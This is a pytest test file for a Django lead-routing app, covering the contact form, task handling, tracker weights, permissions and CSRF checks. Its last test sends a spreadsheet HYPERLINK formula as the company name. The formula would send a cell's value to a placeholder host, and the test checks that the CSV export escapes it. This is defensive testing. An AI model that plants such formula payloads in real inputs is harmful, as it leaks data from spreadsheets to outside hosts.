from __future__ import annotations

import datetime as dt
import uuid

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Activity
from accounts.tests.factories import UserFactory, tam, team_lead
from leads.models import (
    LedgerKind,
    Opportunity,
    RoundRobinEvent,
    Task,
    TaskEvent,
    TaskStatus,
    TimeOff,
    TrackerMember,
)
from leads.tests.factories import TaskFactory, member, territory
from leads.tracker import preview_next
from revopsweb.tests.csv_reading import export_rows

pytestmark = pytest.mark.django_db

CONTACT = {
    "name": "Ada Lovelace",
    "email": "ada@analytical.example.de",
    "company": "Analytical Engines",
    "domain": "",
    "role": "engineering",
    "country": "DE",
    "monthly_active_users": "12000",
    "message": "We need product analytics for 40 engineers.",
}


def _login(client, user):
    client.force_login(user)
    return user


def test_contact_form_creates_and_assigns_a_task_without_login(client):
    picked = member()

    response = client.post(reverse("leads:contact"), CONTACT)

    assert response.status_code == 302
    task = Task.objects.get()
    assert task.assignee == picked.user
    assert task.source == "contact_form"
    assert task.account.domain == "analytical.example.de"
    assert "12,000" in task.message


def test_contact_form_with_bad_fields_reports_each_and_creates_nothing(client):
    response = client.post(
        reverse("leads:contact"), {**CONTACT, "email": "nope", "country": "Germany"}
    )

    assert response.status_code == 200
    errors = response.context["form"].errors
    assert set(errors) == {"email", "country"}
    assert not Task.objects.exists()


def test_contact_form_over_its_rate_keeps_the_entry_and_creates_nothing(client, settings):
    settings.RATELIMIT_ENABLE = True
    settings.RATELIMIT_CACHE_PREFIX = f"rl-test-{uuid.uuid4().hex}:"
    settings.CONTACT_FORM_RATE = "2/h"
    member()
    for _ in range(2):
        assert client.post(reverse("leads:contact"), CONTACT).status_code == 302

    response = client.post(reverse("leads:contact"), CONTACT)

    assert response.status_code == 429
    assert "Too many messages" in response.content.decode()
    assert response.context["form"]["email"].value() == CONTACT["email"]
    assert Task.objects.count() == 2


def test_new_task_form_records_the_creator(client):
    user = _login(client, tam())
    member()

    response = client.post(
        reverse("leads:new_task"), {**CONTACT, "source": "manual", "lead_type": "new_business"}
    )

    task = Task.objects.get()
    assert response.url == reverse("leads:task", args=[task.pk])
    assert task.created_by == user


def _assigned_tasks(user, n):
    for _ in range(n):
        TaskFactory.create(assignee=user, explanation="round robin")


def test_my_tasks_shows_my_open_tasks_oldest_first_in_constant_queries(
    client, django_assert_num_queries
):
    user = _login(client, tam())
    old = TaskFactory.create(assignee=user, created_at=timezone.now() - dt.timedelta(days=3))
    TaskFactory.create(assignee=user)
    TaskFactory.create(assignee=user, status=TaskStatus.CONVERTED)
    TaskFactory.create(assignee=tam())

    response = client.get(reverse("leads:my_tasks"))

    tasks = response.context["tasks"]
    assert [t.pk for t in tasks][0] == old.pk
    assert len(tasks) == 2
    # session, user, groups (nav), tasks
    _assigned_tasks(user, 3)
    with django_assert_num_queries(4):
        client.get(reverse("leads:my_tasks"))
    _assigned_tasks(user, 30)
    with django_assert_num_queries(4):
        client.get(reverse("leads:my_tasks"))


def test_team_view_is_refused_to_a_tam(client):
    _login(client, tam())

    assert client.get(reverse("leads:team_tasks")).status_code == 403


def test_team_view_filters_by_territory_status_assignee_and_source(
    client, django_assert_num_queries
):
    _login(client, team_lead())
    person = member().user
    wanted = TaskFactory.create(assignee=person, source="sales_email")
    TaskFactory.create(assignee=person, source="contact_form")
    TaskFactory.create(assignee=person, source="sales_email", status="nurturing")
    TaskFactory.create(source="sales_email")
    elsewhere = TaskFactory.create(assignee=person, source="sales_email")
    Task.objects.filter(pk=elsewhere.pk).update(territory=territory("us-west"))

    response = client.get(
        reverse("leads:team_tasks"),
        {
            "territory": territory().pk,
            "status": "new",
            "assignee": person.pk,
            "source": "sales_email",
        },
    )
    assert [t.pk for t in response.context["tasks"]] == [wanted.pk]

    # session, user, groups (nav), territory and assignee choices, tasks
    for _ in range(3):
        TaskFactory.create()
    with django_assert_num_queries(6):
        client.get(reverse("leads:team_tasks"), {"status": "new"})
    for _ in range(30):
        TaskFactory.create()
    with django_assert_num_queries(6):
        client.get(reverse("leads:team_tasks"), {"status": "new"})


def test_another_persons_task_is_not_found(client):
    _login(client, tam())
    task = TaskFactory.create(assignee=tam())

    assert client.get(reverse("leads:task", args=[task.pk])).status_code == 404
    response = client.post(
        reverse("leads:task_touch", args=[task.pk]), {"kind": "note", "note": "x"}
    )
    assert response.status_code == 404


def test_task_page_shows_explanation_and_score_breakdown(client):
    user = _login(client, tam())
    task = TaskFactory.create(
        assignee=user,
        explanation="round robin, Europe & Africa, TAE: load 3 × 1 lowest of 2 active",
        score=30,
        score_breakdown={"employee_count": 10, "country": 10, "role": 10},
    )

    body = client.get(reverse("leads:task", args=[task.pk])).content.decode()

    assert "load 3 × 1 lowest of 2 active" in body
    assert "30 / 70" in body


def test_touching_a_task_updates_its_last_touched_time_and_history(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user, last_touched_at=timezone.now() - dt.timedelta(days=9))

    response = client.post(
        reverse("leads:task_touch", args=[task.pk]), {"kind": "call", "note": "Intro call booked"}
    )

    assert response.status_code == 302
    task.refresh_from_db()
    assert task.last_touched_at is not None
    assert timezone.now() - task.last_touched_at < dt.timedelta(minutes=1)
    assert TaskEvent.objects.get(task=task, kind="call").actor == user
    assert Activity.objects.get(account=task.account).kind == "call"


def test_status_change_through_htmx_returns_the_task_partial(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    response = client.post(
        reverse("leads:task_touch", args=[task.pk]),
        {"kind": "status", "status": "nurturing"},
        headers={"HX-Request": "true"},
    )

    body = response.content.decode()
    assert body.startswith('\n<div id="task-work">') or body.lstrip().startswith(
        '<div id="task-work">'
    )
    assert "<html" not in body
    task.refresh_from_db()
    assert task.status == "nurturing"


def test_disqualifying_as_other_needs_a_comment(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    response = client.post(reverse("leads:task_disqualify", args=[task.pk]), {"reason": "other"})

    assert response.status_code == 400
    task.refresh_from_db()
    assert task.status == "new"


def test_disqualifying_records_reason_and_category(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    client.post(reverse("leads:task_disqualify", args=[task.pk]), {"reason": "no_response_pass"})

    task.refresh_from_db()
    assert task.status == "disqualified"
    assert task.disqualification_category == "Unreachable"
    assert "No Response – Pass" in TaskEvent.objects.get(task=task, kind="disqualified").summary


def test_converting_creates_an_opportunity_and_closes_the_task(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    client.post(
        reverse("leads:task_convert", args=[task.pk]),
        {
            "record_type": "new_revenue",
            "type": "annual",
            "amount": "24000.00",
            "close_date": "2026-12-31",
        },
    )

    opportunity = Opportunity.objects.get()
    assert str(opportunity.amount) == "24000.00"
    assert opportunity.owner == user
    task.refresh_from_db()
    assert task.status == "converted"


def test_get_is_refused_on_task_actions(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    assert client.get(reverse("leads:task_touch", args=[task.pk])).status_code == 405


# --- Tracker ------------------------------------------------------------------


def _tracker(client, **params):
    return client.get(reverse("leads:tracker"), {"territory": "europe-africa", **params})


def test_tracker_is_read_only_for_a_tam(client):
    _login(client, tam())
    member()

    body = _tracker(client).content.decode()

    assert "-priority" not in body
    assert "Only team leads and managers can change weights" in body


def test_a_tam_cannot_change_a_weight_by_crafted_post(client):
    _login(client, tam())
    target = member()

    response = client.post(
        reverse("leads:member_update", args=[target.pk]),
        {
            f"m{target.pk}-priority": "3",
            f"m{target.pk}-manual_adjustment": "0",
            f"m{target.pk}-territories": [territory().pk],
        },
    )

    assert response.status_code == 403
    target.refresh_from_db()
    assert target.priority == 1


@pytest.mark.parametrize("adjustment", ["-999999", "501", "-501"])
def test_an_adjustment_beyond_the_bound_is_refused_and_nothing_recorded(client, adjustment):
    _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]) + "?territory=europe-africa",
        {
            f"{prefix}-priority": "1",
            f"{prefix}-manual_adjustment": adjustment,
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": [territory().pk],
            f"{prefix}-reason": "make up for the quiet weeks",
        },
    )

    assert response.status_code == 400
    assert "500" in response.content.decode()
    target.refresh_from_db()
    assert target.manual_adjustment == 0
    assert not RoundRobinEvent.objects.filter(member=target).exists()


def test_an_adjustment_at_the_bound_with_a_reason_is_saved(client):
    _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]) + "?territory=europe-africa",
        {
            f"{prefix}-priority": "1",
            f"{prefix}-manual_adjustment": "-500",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": [territory().pk],
            f"{prefix}-reason": "missed a month of leads",
        },
    )

    assert response.status_code == 302
    target.refresh_from_db()
    assert target.manual_adjustment == -500


def test_changing_the_adjustment_without_a_reason_is_refused(client):
    _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]) + "?territory=europe-africa",
        {
            f"{prefix}-priority": "1",
            f"{prefix}-manual_adjustment": "20",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": [territory().pk],
            f"{prefix}-reason": " ",
        },
    )

    assert response.status_code == 400
    assert "Say why the adjustment changes." in response.content.decode()
    target.refresh_from_db()
    assert target.manual_adjustment == 0


def test_the_tracker_page_explains_the_adjustment_and_its_bound(client):
    _login(client, team_lead())
    member()

    page = client.get(reverse("leads:tracker"), {"territory": "europe-africa"}).content.decode()

    assert "counts as leads already received this month" in page
    assert 'min="-500" max="500"' in page


def test_team_lead_changes_a_weight_and_the_ledger_records_old_new_and_why(client):
    lead = _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]) + "?territory=europe-africa",
        {
            f"{prefix}-priority": "3",
            f"{prefix}-manual_adjustment": "5",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": [territory().pk],
            f"{prefix}-reason": "ramping",
        },
    )

    assert response.status_code == 302
    target.refresh_from_db()
    assert (target.priority, target.manual_adjustment) == (3, 5)
    events = {e.kind: e for e in RoundRobinEvent.objects.filter(member=target)}
    assert events[LedgerKind.WEIGHT].old_value == "1"
    assert events[LedgerKind.WEIGHT].new_value == "3"
    assert events[LedgerKind.WEIGHT].author == lead
    assert events[LedgerKind.WEIGHT].reason == "ramping"
    assert events[LedgerKind.ADJUSTMENT].delta == 5
    assert "ramping" in _tracker(client).content.decode()


def test_htmx_weight_change_returns_the_member_rows(client):
    _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]) + "?territory=europe-africa",
        {
            f"{prefix}-priority": "2",
            f"{prefix}-manual_adjustment": "0",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": [territory().pk],
        },
        headers={"HX-Request": "true"},
    )

    body = response.content.decode()
    assert '<tbody id="member-rows">' in body
    assert "<html" not in body


def test_invalid_priority_is_reported_and_nothing_changes(client):
    _login(client, team_lead())
    target = member()
    prefix = f"m{target.pk}"

    response = client.post(
        reverse("leads:member_update", args=[target.pk]),
        {
            f"{prefix}-priority": "0",
            f"{prefix}-manual_adjustment": "x",
            f"{prefix}-territories": [territory().pk],
        },
    )

    assert response.status_code == 400
    assert not RoundRobinEvent.objects.exists()


def test_preview_shows_the_next_twenty_under_unsaved_settings(client):
    _login(client, team_lead())
    a = member()
    b = member()
    prefix = f"m{a.pk}"

    response = client.get(
        reverse("leads:member_preview", args=[a.pk]),
        {
            "territory": "europe-africa",
            f"{prefix}-priority": "3",
            f"{prefix}-manual_adjustment": "0",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": territory().pk,
        },
        headers={"HX-Request": "true"},
    )

    proposed = response.context["preview"]["proposed"]
    assert len(proposed) == 20
    assert proposed.count(a.user.name) == 5
    assert proposed.count(b.user.name) == 15
    a.refresh_from_db()
    assert a.priority == 1


def test_preview_reads_the_members_once_for_both_lists(client, django_assert_num_queries):
    _login(client, team_lead())
    a = member()
    member()
    prefix = f"m{a.pk}"
    data = {
        "territory": "europe-africa",
        f"{prefix}-priority": "3",
        f"{prefix}-manual_adjustment": "0",
        f"{prefix}-is_active": "on",
        f"{prefix}-territories": territory().pk,
    }
    url = reverse("leads:member_preview", args=[a.pk])

    # session, user, user's groups, the member, the territory, the member's
    # territories (form initial), the form's territories (choice check), then
    # the preview's members once for both lists.
    with django_assert_num_queries(8):
        response = client.get(url, data, headers={"HX-Request": "true"})

    preview = response.context["preview"]
    assert preview["current"] == preview_next(territory=territory(), role=a.role)
    assert preview["proposed"] == preview_next(
        territory=territory(), role=a.role, overrides={a.pk: {"priority": 3}}
    )


def test_tracker_page_queries_do_not_grow_with_members(client, django_assert_max_num_queries):
    _login(client, team_lead())
    for _ in range(3):
        member()
    with django_assert_max_num_queries(20) as small:
        _tracker(client)
    for _ in range(20):
        member()
    TaskFactory.create_batch(5)
    with django_assert_max_num_queries(len(small.captured_queries)):
        _tracker(client)


def test_adding_a_member_prefills_the_mid_month_level(client):
    lead = _login(client, team_lead())
    member(leads_this_month=50)
    member(leads_this_month=40, manual_adjustment=10)
    newcomer = UserFactory.create()

    response = client.post(
        reverse("leads:member_add"),
        {
            "user": newcomer.pk,
            "role": "TAE",
            "territories": [territory().pk],
            "priority": "1",
            "manual_adjustment": "",
            "territory": "europe-africa",
        },
    )

    assert response.status_code == 302
    joined = TrackerMember.objects.get(user=newcomer)
    assert joined.manual_adjustment == 50
    assert RoundRobinEvent.objects.get(member=joined, kind=LedgerKind.JOINED).author == lead


def test_prefill_endpoint_answers_for_role_and_territories(client):
    _login(client, team_lead())
    member(leads_this_month=20)

    response = client.get(
        reverse("leads:member_prefill"), {"role": "TAE", "territories": [territory().pk]}
    )

    assert 'value="20"' in response.content.decode()


def test_a_member_records_their_own_time_off_but_not_someone_elses(client):
    own = member()
    other = member()
    _login(client, own.user)

    ok = client.post(
        reverse("leads:time_off_add"),
        {
            "member": own.pk,
            "starts_on": "2026-12-01",
            "ends_on": "2026-12-10",
            "territory": "europe-africa",
        },
    )
    refused = client.post(
        reverse("leads:time_off_add"),
        {"member": other.pk, "starts_on": "2026-12-01", "ends_on": "2026-12-10"},
    )

    assert ok.status_code == 302
    assert refused.status_code == 400
    assert list(TimeOff.objects.values_list("member", flat=True)) == [own.pk]


def test_unassigned_queue_shows_the_reason_and_a_lead_can_rerun_the_round_robin(client):
    _login(client, team_lead())
    from leads.assignment import assign_task

    task = TaskFactory.create()
    assign_task(task=task)
    assert "nobody with that role covers the territory" in _tracker(client).content.decode()
    picked = member()

    client.post(reverse("leads:queue_assign", args=[task.pk]), {"territory": "europe-africa"})

    task.refresh_from_db()
    assert task.assignee == picked.user


def test_contact_form_page_is_public(client):
    response = client.get(reverse("leads:contact"))

    assert response.status_code == 200
    assert "Work email" in response.content.decode()


def test_preview_without_htmx_renders_the_whole_tracker_page(client):
    _login(client, team_lead())
    a = member()
    member()
    prefix = f"m{a.pk}"

    response = client.get(
        reverse("leads:member_preview", args=[a.pk]),
        {
            "territory": "europe-africa",
            f"{prefix}-priority": "2",
            f"{prefix}-manual_adjustment": "0",
            f"{prefix}-is_active": "on",
            f"{prefix}-territories": territory().pk,
        },
    )

    body = response.content.decode()
    assert "<html" in body
    assert 'data-testid="preview-proposed"' in body
    assert response.context["preview"]["proposed"].count(a.user.name) == 7


def test_a_tam_cannot_preview_or_add_members(client):
    _login(client, tam())
    target = member()

    assert client.get(reverse("leads:member_preview", args=[target.pk])).status_code == 403
    assert client.post(reverse("leads:member_add"), {}).status_code == 403
    assert (
        client.post(reverse("leads:queue_assign", args=[TaskFactory.create().pk])).status_code
        == 403
    )


def test_plain_form_fallbacks_pass_csrf_checks():
    from django.test import Client

    lead = team_lead()
    target = member()
    task = TaskFactory.create(assignee=lead)
    client = Client(enforce_csrf_checks=True)
    client.force_login(lead)

    tracker_page = client.get(reverse("leads:tracker"), {"territory": "europe-africa"})
    task_page = client.get(reverse("leads:task", args=[task.pk]))
    token = tracker_page.context["csrf_token"]
    prefix = f"m{target.pk}"
    saved = client.post(
        reverse("leads:member_update", args=[target.pk]),
        {
            "csrfmiddlewaretoken": token,
            f"{prefix}-priority": "2",
            f"{prefix}-manual_adjustment": "0",
            f"{prefix}-territories": [territory().pk],
        },
    )

    assert saved.status_code == 302
    member_form = (
        tracker_page.content.decode().split(f'id="member-form-{target.pk}"')[1].split("</form>")[0]
    )
    assert "csrfmiddlewaretoken" in member_form
    task_work = task_page.content.decode().split('id="task-work"')[1]
    # Touch, disqualify, nurture, convert.
    assert task_work.count('name="csrfmiddlewaretoken"') == 4


def test_a_formula_sent_as_company_through_the_contact_form_is_text_in_my_book_csv(client):
    picked = member()
    company = '=HYPERLINK("http://example.invalid/?x="&A2,"Open")'

    client.post(reverse("leads:contact"), {**CONTACT, "company": company})

    account = Task.objects.get().account
    assert account.owner == picked.user
    client.force_login(picked.user)
    [row] = export_rows(client.get(reverse("accounts:book_export")))
    assert row["name"] == "'" + company
